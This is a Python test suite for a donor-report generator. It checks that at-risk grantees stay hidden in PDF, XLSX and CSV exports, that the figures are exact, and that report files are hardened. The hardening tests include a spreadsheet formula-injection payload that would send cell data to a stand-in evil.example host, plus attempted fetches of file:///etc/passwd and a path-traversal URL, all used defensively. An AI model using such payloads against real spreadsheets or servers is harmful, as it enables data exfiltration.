"""What donors download: the PDF, XLSX and CSV, and what they must never reveal about at-risk grantees."""
import datetime
import io
import subprocess
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import CommandError, call_command

from fundops.disclosure import public_grant_reference
from reports.builders import build_donor_report
from reports.renderers import render
from reports.selectors import Period
from tests import factories
from tests.reports.conftest import make_grant, pay

YEAR = Period(datetime.date(2026, 1, 1), datetime.date(2026, 12, 31))


def pdf_text(pdftotext, content, tmp_path):
    path = tmp_path / "report.pdf"
    path.write_bytes(content)
    return subprocess.run([pdftotext, "-layout", str(path), "-"], check=True, capture_output=True, text=True).stdout


def xlsx_text(content):
    book = openpyxl.load_workbook(io.BytesIO(content))
    return book, "\n".join(
        str(cell) for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for cell in row if cell is not None
    )


@pytest.fixture
def world(fund):
    """Two named grantees in Kenya and Uganda; one at-risk grantee working in South Sudan."""
    factories.ContributionFactory(fund=fund, amount=Decimal("500000"), received_on=datetime.date(2026, 1, 10))
    named = make_grant(fund, countries=["KE", "UG"], amount="10000", name="Kituo cha Sheria Paralegals")
    pay(named, "5000.00", "1", datetime.date(2026, 3, 12))
    other = make_grant(fund, countries=["KE"], amount="4000", name="Nairobi Legal Aid Clinic")
    pay(other, "4000.00", "1", datetime.date(2026, 3, 13))
    hidden = make_grant(
        fund, countries=["SS"], amount="8000", currency="EUR", rate="1.1", at_risk=True,
        name="Juba Defenders Secret Network", org_id="SS-RRC-778899", registration_number="RRC/2019/4455",
    )
    pay(hidden, "4000.00", "1.0873", datetime.date(2026, 4, 2))
    return {"named": named, "other": other, "hidden": hidden}


def secrets_of(grant):
    org = grant.organization
    return [org.name, "South Sudan", "Juba", grant.reference, org.org_id, org.registration_number, "SS-", ",SS,"]


@pytest.mark.django_db
def test_at_risk_grantee_appears_nowhere_in_pdf_xlsx_or_csv(world, pdftotext, tmp_path):
    hidden = world["hidden"]
    report = build_donor_report(fund=world["hidden"].fund, period=YEAR)

    text = pdf_text(pdftotext, render(report, "pdf"), tmp_path)
    _, workbook_text = xlsx_text(render(report, "xlsx"))
    csv_text = render(report, "csv").decode()

    for label, content in [("PDF", text), ("XLSX", workbook_text), ("CSV", csv_text)]:
        for secret in secrets_of(hidden):
            assert secret not in content, f"{secret!r} leaked in the {label}"
    # Counted under its generated reference so the totals still add up — but, the only at-risk
    # grantee, in the catch-all row, not in an "Eastern Africa" row that would be a group of one.
    assert "Undisclosed organisation" in text and public_grant_reference(hidden) in text
    assert "Eastern Africa — undisclosed countries" not in text
    assert "Undisclosed countries and regions" in text
    assert "Undisclosed organisation" in workbook_text and public_grant_reference(hidden) in workbook_text
    assert ",Undisclosed countries and regions,Undisclosed (merged regions),1,1,8800.00,4349.20,USD" in csv_text
    # The named grantees are shown by name, under their public reference, never the internal one.
    assert "Kituo cha Sheria Paralegals" in text and public_grant_reference(world["named"]) in text
    assert world["named"].reference not in text + workbook_text


@pytest.mark.django_db
def test_csv_by_country_is_exactly_as_specified(world):
    content = render(build_donor_report(fund=world["named"].fund, period=YEAR), "csv").decode()
    assert content.splitlines() == [
        "country_code,country,region,grants,organisations,committed,disbursed,currency",
        "KE,Kenya,Eastern Africa,2,2,9000.00,6500.00,USD",
        "UG,Uganda,Eastern Africa,1,1,5000.00,2500.00,USD",
        ",Undisclosed countries and regions,Undisclosed (merged regions),1,1,8800.00,4349.20,USD",
        "TOTAL,,,3,3,22800.00,13349.20,USD",
    ]


@pytest.mark.django_db
def test_xlsx_has_the_five_sheets_with_exact_amounts(world):
    book, _ = xlsx_text(render(build_donor_report(fund=world["named"].fund, period=YEAR), "xlsx"))
    assert book.sheetnames == ["Summary", "By country", "By region", "Grants", "Payments"]
    by_country = list(book["By country"].iter_rows(values_only=True))
    assert by_country[0] == ("country_code", "country", "region", "grants", "organisations", "committed", "disbursed", "currency")
    assert by_country[-1][0] == "TOTAL" and Decimal(str(by_country[-1][6])) == Decimal("13349.20")
    payments = list(book["Payments"].iter_rows(values_only=True))
    assert len(payments) == 4  # header + two named payments + the undisclosed one, folded
    # 4000.00 EUR at the stored 1.0873, folded into its group's quarter in the base currency.
    assert payments[-1][:4] == ("2026-Q2", None, "Undisclosed countries and regions", "USD")
    assert Decimal(str(payments[-1][6])) == Decimal("4349.20")


@pytest.mark.django_db
def test_empty_period_says_no_grants_in_every_format(world, pdftotext, tmp_path):
    report = build_donor_report(fund=world["named"].fund, period=Period(datetime.date(2025, 1, 1), datetime.date(2025, 12, 31)))
    assert report.is_empty
    assert "No grants in this period" in pdf_text(pdftotext, render(report, "pdf"), tmp_path)
    assert render(report, "csv").decode().splitlines()[1:] == ["TOTAL,,,0,0,0.00,0.00,USD"]
    _, workbook_text = xlsx_text(render(report, "xlsx"))
    assert "No grants in this period." in workbook_text


@pytest.mark.django_db
def test_pdf_shows_figures_charts_and_annex(world, pdftotext, tmp_path):
    donor = world["named"].fund.contributions.get().donor
    text = pdf_text(pdftotext, render(build_donor_report(fund=world["named"].fund, period=YEAR, donor=donor), "pdf"), tmp_path)
    assert f"Prepared for {donor.name}" in text
    assert "13,349.20" in text  # disbursed, headline and table total
    assert "Disbursed per country, USD" in text
    # An undisclosed grantee was paid: money over time is shown by quarter, not month.
    assert "Disbursed per quarter, USD" in text and "2026-Q1" in text and "Mar 2026" not in text
    assert "Annex: grants" in text and "Total: 3 grants" in text


@pytest.mark.django_db
def test_pdf_is_by_month_when_no_undisclosed_grantee_was_paid(fund, pdftotext, tmp_path):
    pay(make_grant(fund, countries=["KE"], amount="4000"), "4000.00", "1", datetime.date(2026, 3, 13))
    text = pdf_text(pdftotext, render(build_donor_report(fund=fund, period=YEAR), "pdf"), tmp_path)
    assert "Disbursed per month, USD" in text and "Mar 2026" in text


PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


@pytest.fixture
def payload_world(fund):
    """A grantee, an application, a fund and a donor all named with a spreadsheet formula."""
    fund.name = PAYLOAD
    fund.save()
    factories.ContributionFactory(fund=fund, amount=Decimal("50000"), received_on=datetime.date(2026, 1, 10),
                                  donor=factories.DonorFactory(name=PAYLOAD))
    grant = make_grant(fund, countries=["KE"], amount="1000", name=PAYLOAD)
    grant.application.title = PAYLOAD
    grant.application.save()
    pay(grant, "1000.00", "1", datetime.date(2026, 3, 13))
    return fund


@pytest.mark.django_db
def test_xlsx_never_holds_a_formula_and_amounts_stay_numbers(payload_world):
    donor = payload_world.contributions.get().donor
    book = openpyxl.load_workbook(io.BytesIO(render(build_donor_report(fund=payload_world, period=YEAR, donor=donor), "xlsx")))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [str(cell.value) for cell in cells if isinstance(cell.value, str)]
    assert "'" + PAYLOAD in texts  # the organisation's name, shown as text
    assert not any(text.startswith(("=", "+", "-", "@")) for text in texts)
    grants = list(book["Grants"].iter_rows(values_only=True))
    assert isinstance(grants[1][4], (int, float)) and Decimal(str(grants[1][4])) == Decimal("1000")


@pytest.mark.django_db
def test_csv_never_starts_a_cell_with_a_formula(payload_world):
    import csv

    content = render(build_donor_report(fund=payload_world, period=YEAR), "csv").decode()
    cells = [cell for row in csv.reader(io.StringIO(content)) for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert content.splitlines()[-1] == "TOTAL,,,1,1,1000.00,1000.00,USD"


def test_pdf_fetches_nothing_but_our_static_files():
    from reports import renderers

    fetcher = renderers.static_only_fetcher()
    with pytest.raises(ValueError):
        fetcher.fetch("https://example.org/tracker.png")
    with pytest.raises(ValueError):
        fetcher.fetch("file:///etc/passwd")
    with pytest.raises(ValueError):
        fetcher.fetch("https://report.fundops.invalid/static/../../settings.py")
    css = fetcher.fetch("https://report.fundops.invalid/static/reports/donor_report.css")
    assert b"@page" in css.read()


@pytest.mark.django_db
def test_command_writes_each_format(world, tmp_path):
    fund = world["named"].fund
    donor = fund.contributions.get().donor
    for fmt in ["pdf", "xlsx", "csv"]:
        out = tmp_path / f"report.{fmt}"
        call_command("donor_report", fund.slug, "--format", fmt, "--output", str(out), "--from", "2026-01-01",
                     "--to", "2026-12-31", "--donor", donor.slug)
        assert out.stat().st_size > 0
    assert (tmp_path / "report.csv").read_text().splitlines()[-1] == "TOTAL,,,3,3,22800.00,13349.20,USD"
    assert (tmp_path / "report.pdf").read_bytes().startswith(b"%PDF")


@pytest.mark.django_db
@pytest.mark.parametrize(
    "args, message",
    [
        (["no-such-fund"], "No fund “no-such-fund”"),
        (["gj-test", "--donor", "nobody"], "No donor “nobody”"),
        (["gj-test", "--from", "2026-13-01"], "--from “2026-13-01” is not a date"),
        (["gj-test", "--from", "2026-05-01", "--to", "2026-04-01"], "is before --from"),
    ],
)
def test_command_explains_bad_input(fund, tmp_path, args, message):
    with pytest.raises(CommandError, match=message):
        call_command("donor_report", *args, "--format", "csv", "--output", str(tmp_path / "r.csv"))
    assert not (tmp_path / "r.csv").exists()


@pytest.mark.django_db
def test_command_refuses_a_donor_who_did_not_give_to_the_fund(fund, tmp_path):
    stranger = factories.DonorFactory(slug="stranger")
    with pytest.raises(CommandError, match="has not contributed"):
        call_command("donor_report", fund.slug, "--format", "csv", "--output", str(tmp_path / "r.csv"), "--donor", stranger.slug)
